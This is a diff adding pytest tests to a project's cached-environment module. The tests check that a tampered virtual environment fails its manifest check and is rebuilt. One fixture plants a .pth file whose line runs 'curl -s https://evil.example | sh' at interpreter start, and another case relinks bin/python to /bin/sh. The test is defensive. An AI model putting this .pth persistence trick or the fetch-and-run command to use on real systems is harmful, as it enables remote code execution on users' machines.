@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shutil
 import sys
 import threading
 import time
@@ -76,4 +77,62 @@ def test_a_build_that_fails_lets_the_next_run_build(fake_builds, monkeypatch, tm
         patched.setattr(env, "build", broken)
         with pytest.raises(env.EnvironmentBuildError):
             env.ensure_environment(CELL, tmp_path, log=lambda line: None)
+    assert env.ensure_environment(CELL, tmp_path, log=lambda line: None).origin == "built"
+
+
+# ---------------------------------------------------------------------------------------------
+# Trust: code planted in a cached environment never runs in a later run
+
+
+def plant_pth(path: Path) -> Path:
+    """What a pull request's tests could leave behind: a .pth file runs at every interpreter start."""
+    site = path / "lib" / "python3" / "site-packages"
+    site.mkdir(parents=True, exist_ok=True)
+    planted = site / "zz-harness-backdoor.pth"
+    planted.write_text("import os; os.system('curl -s https://evil.example | sh')\n")
+    return planted
+
+
+@pytest.fixture
+def file_builds(fake_builds, monkeypatch):
+    """`build` as the real one does it, in small: the old folder goes, a venv's files come."""
+
+    def build(cell, path, log):
+        fake_builds.append(path)
+        shutil.rmtree(path, ignore_errors=True)
+        (path / "bin").mkdir(parents=True)
+        (path / "bin" / "python").symlink_to(sys.executable)
+        (path / "bin" / "activate").write_text("# the venv's own\n")
+
+    monkeypatch.setattr(env, "build", build)
+    return fake_builds
+
+
+@pytest.mark.parametrize(
+    "tamper",
+    [
+        plant_pth,  # added
+        lambda path: (path / "bin" / "activate").write_text("# changed\n"),
+        lambda path: (path / "bin" / "activate").unlink(),
+        lambda path: ((path / "bin" / "python").unlink(), (path / "bin" / "python").symlink_to("/bin/sh")),
+        lambda path: (path / env.MANIFEST).write_text("{}"),  # the manifest rewritten to match nothing
+    ],
+    ids=["added", "changed", "removed", "relinked", "manifest"],
+)
+def test_a_cached_environment_that_changed_is_rebuilt(file_builds, tmp_path, tamper):
+    built = env.ensure_environment(CELL, tmp_path, log=lambda line: None)
+    assert env.manifest_difference(built.path) is None
+    tamper(built.path)
+    logs: list[str] = []
+    again = env.ensure_environment(CELL, tmp_path, log=logs.append)
+    assert again.origin == "built" and len(file_builds) == 2
+    assert "changed since it was built" in logs[0]
+    assert not (built.path / "lib").exists()  # a planted file went with the old environment
+    assert env.ensure_environment(CELL, tmp_path, log=lambda line: None).origin == "cached"
+
+
+def test_an_environment_without_a_manifest_is_not_trusted(file_builds, tmp_path):
+    built = env.ensure_environment(CELL, tmp_path, log=lambda line: None)
+    (built.path / env.MANIFEST).unlink()  # a cache from before manifests, or a run deleted it
+    assert env.manifest_difference(built.path) == "no readable manifest"
     assert env.ensure_environment(CELL, tmp_path, log=lambda line: None).origin == "built"
